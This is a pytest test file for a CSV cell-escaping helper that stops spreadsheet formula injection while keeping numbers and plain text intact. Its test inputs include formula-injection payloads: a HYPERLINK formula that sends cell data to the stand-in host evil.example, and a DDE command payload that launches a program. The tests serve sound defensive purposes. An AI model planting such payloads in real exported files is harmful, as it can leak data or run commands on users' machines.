"""CSV cells never reach a spreadsheet as formulas; numbers stay numbers (no database)."""

import pytest

from questions.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_shown_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", [-0.5, 0, 3, 0.75, -12, "-0.5", "0.750", "+3", "-.5", "12"])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["Ana", "", "a=b", "Ana - second try", "2026-11-23T12:00:00"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_a_row_is_escaped_cell_by_cell():
    assert safe_row(["=1+1", -0.5, None, "Ana"]) == ["'=1+1", -0.5, None, "Ana"]
